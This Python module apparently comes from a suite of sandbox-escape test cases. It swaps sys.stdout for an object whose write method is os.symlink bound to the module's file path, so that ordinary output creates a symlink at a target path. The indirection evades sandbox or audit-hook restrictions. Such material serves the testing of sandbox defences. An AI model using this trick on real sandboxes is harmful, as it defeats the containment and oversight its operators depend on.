"""An object as sys.stdout whose write() is a C function bound to itself."""
CATEGORY = "deferred"
REACH = "write"

import os
import sys
import types

from . import payload


class Stream(str):
    flush = staticmethod(int)


TARGET = payload.TARGET


def attack():
    sys.stdout = Stream(__file__)
    sys.stdout.write = types.MethodType(os.symlink, sys.stdout)
